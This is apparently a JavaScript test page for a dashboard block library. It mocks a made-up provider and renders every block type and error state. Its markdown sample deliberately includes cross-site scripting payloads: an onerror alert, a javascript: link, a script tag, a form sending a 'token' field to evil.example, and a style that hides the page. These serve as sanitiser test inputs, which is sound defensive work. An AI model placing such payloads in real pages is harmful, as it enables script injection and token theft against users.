/** Draws one block of every kind and state, of a provider that this page makes up. */

const server = new URLSearchParams(location.search).get('server');
const [{ configure }, { createClient }] = await Promise.all(
  ['elements', 'patchbay'].map((name) => import(`${server}/static/client/${name}.js`)),
);

const day = (index) => new Date(Date.UTC(2026, 4, 1 + index)).toISOString().slice(0, 10);
const days = Array.from({ length: 14 }, (_, index) => day(index));
const hours = Array.from({ length: 24 }, (_, index) => `2026-05-04T${String(index).padStart(2, '0')}:00:00Z`);
const page = (number) => ({ title: `Release ${number} is out`, url: `https://a.example/${number}`, published: '2026-05-04T10:00:00Z', summary: 'What is <b>new</b>, what is gone, and what to look at before an upgrade.' });
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const MARKDOWN = `## Steps

1. Run \`make run\`
2. See **the error**

\`\`\`
raise SystemExit("a line of code that is wider than any card, so that one has to scroll to its end")
\`\`\`

| name | value |
|---|---|
| a | 1 |

[a page](https://a.example/page) ![a picture](https://pictures.example/x.png) <img src=x onerror="alert(1)"> <a href="javascript:alert(1)">bad</a>
<script>alert(1)</script><form action="https://evil.example"><input name="token"></form><style>* { display: none }</style>`;

const BLOCKS = {
  figure: { data: { temperature: 21.4, condition: 'Partly cloudy', humidity: 64, wind: 12 }, display: { kind: 'figure', value: 'temperature', history: { keep: '30d' }, units: { temperature: '°C', humidity: '%', wind: 'km/h' } } },
  gauge: { data: { disk: 0.87 }, display: { kind: 'gauge', units: { disk: 'ratio' }, thresholds: { disk: [{ from: 0.8, level: 'warn' }, { from: 0.95, level: 'bad' }] } } },
  status: { data: [{ name: 'NAS', status: 'up', ms: 12 }, { name: 'Router', status: 'degraded', ms: 240 }, { name: 'Printer', status: 'down', ms: null }], display: { kind: 'status', fields: ['ms'], units: { ms: 'ms' } } },
  facts: { data: { memory: 9_663_676_416, uptime: 93_784, load: 0.07, weather_code: 61, trading: true, tags: ['home', 'lab'] }, display: { units: { memory: 'bytes', uptime: 's' } } },
  table: { data: Array.from({ length: 6 }, (_, index) => ({ symbol: `COIN${index}`, price: 1234.5 / (index + 1), change: index - 2.5, volume: 9e6 * index, updated: hours[index] })), display: { units: { price: 'EUR', change: '%' } } },
  list: { data: ['Water the plants', 'Call the bank', 'Book the train'] },
  feed: { data: { feed: { title: 'Releases' }, entries: [page(3), page(2), page(1)] } },
  article: { data: { ...page(4), site_name: 'a.example', stars: 1200, language: 'Python' } },
  markdown: { data: { title: 'It does not start', url: 'https://a.example/7', state: 'open', body: MARKDOWN }, display: { kind: 'article', formats: { body: 'markdown' } } },
  wide: { data: Array.from({ length: 5 }, (_, index) => Object.fromEntries(['name', 'address', 'system', 'version', 'owner', 'room', 'contact'].map((name) => [name, `${name} number ${index}`]))) },
  image: { data: PIXEL, contentType: 'image/png' },
  line: { data: { time: hours, inside: hours.map((_, index) => 20 + Math.sin(index / 3)), outside: hours.map((_, index) => 12 + 6 * Math.sin(index / 4)) }, display: { units: { inside: '°C', outside: '°C' } } },
  bars: { data: days.map((date, index) => ({ date, rain: (index * 7) % 11 })), display: { kind: 'bars', units: { rain: 'mm' } } },
  timeline: { data: [{ title: 'Standup', start: '2026-05-04T09:00:00Z' }, { title: 'Lunch with Ana', start: '2026-05-04T12:30:00Z' }, { title: 'Dentist', start: '2026-05-05T08:00:00Z' }] },
  map: { data: [{ name: 'Lisbon', lat: 38.7, lon: -9.1 }, { name: 'Porto', lat: 41.1, lon: -8.6 }, { name: 'Faro', lat: 37, lon: -7.9 }], display: { kind: 'map' } },
  empty: { data: [] },
  stale: { data: { price: 61_234.5 }, display: { kind: 'figure', units: { price: 'USD' } }, stale: true, error: { code: 'upstream_failed', detail: 'The provider answered 503.', upstream_status: 503, upstream_message: 'Maintenance until noon' } },
  failing: { problem: { code: 'upstream_unreachable', status: 502, detail: 'The provider does not answer.' } },
  incomplete: { problem: { code: 'settings_incomplete', status: 409, detail: 'Set `api_key` first.' } },
  action: { action: { label: 'Pause', confirm: 'Pause for everybody?', renews: [], inputs: [{ name: 'seconds', type: 'integer', required: false, from_config: null, default: 300, min: 1 }] } },
  slow: { never: true },
};

const integration = {
  id: 'made-up', name: 'Made up', description: null, version: '1.0.0', author: null, api_type: 'rest', base_url: 'https://a.example', auth_method: 'api_key',
  enabled: true, review: null, endpoints: [], properties: [{ name: 'api_key', type: 'string', secure: true, required: true, ui: { label: 'API key', help: 'From your account page.' } }, { name: 'units', type: 'string', enum: ['metric', 'imperial'], default: 'metric' }],
  blocks: Object.entries(BLOCKS).map(([id, { display }]) => ({ id, name: `A ${id}`, inputs: [], display })),
};

const fetchedAt = () => new Date(Date.now() - 300_000).toISOString();

function answer(id) {
  const { data = null, contentType = 'application/json', stale = false, error = null, problem, action, never } = BLOCKS[id];
  if (never) return null;
  if (problem) return { success: false, ...problem };
  const fetched = action ? null : fetchedAt();
  return { success: true, data, content_type: contentType, error, cached: true, stale, fetched_at: fetched, expires_at: null, cache: stale ? 'STALE' : 'HIT', age: 300, ...(action && { action }) };
}

/** A day, a week or a month of a temperature, a sample an hour. */
function samples({ since }) {
  const hours = { '24h': 24, '7d': 168, '30d': 720 }[since];
  const now = Math.floor(Date.now() / 3_600_000) * 3600;
  return Array.from({ length: hours }, (_, index) => [now - (hours - index) * 3600, 18 + (index % 24) / 6]);
}

async function fetch(url, { body }) {
  const path = new URL(url).pathname.replace('/api/v1', '');
  const json = (value, status = 200) => new Response(JSON.stringify(value), { status });
  if (path === '/render-batch') {
    const lines = JSON.parse(body).blocks.map(({ key, block_type: id }) => ({ key, ...answer(id) })).filter(({ success }) => success !== undefined);
    return new Response(new ReadableStream({ start: (stream) => stream.enqueue(new TextEncoder().encode(lines.map((line) => `${JSON.stringify(line)}\n`).join(''))) }));
  }
  if (path.endsWith('/config')) return json({ plugin_id: 'made-up', config: {}, secrets: { api_key: { set: false, status: null, updated_at: null } } });
  if (path === '/history') return json({ histories: JSON.parse(body).blocks.map(() => ({ series: [{ field: 'temperature', points: samples(JSON.parse(body)) }] })) });
  return json(path === '/integrations' ? [integration] : integration);
}

configure(createClient({ baseUrl: server, fetch }));
const place = document.getElementById('blocks');
for (const id of Object.keys(BLOCKS)) {
  const block = document.createElement('patchbay-block');
  block.setAttribute('integration', 'made-up');
  block.setAttribute('block', id);
  place.append(block);
}
const settings = document.createElement('patchbay-settings');
settings.setAttribute('integration', 'made-up');
place.append(settings);
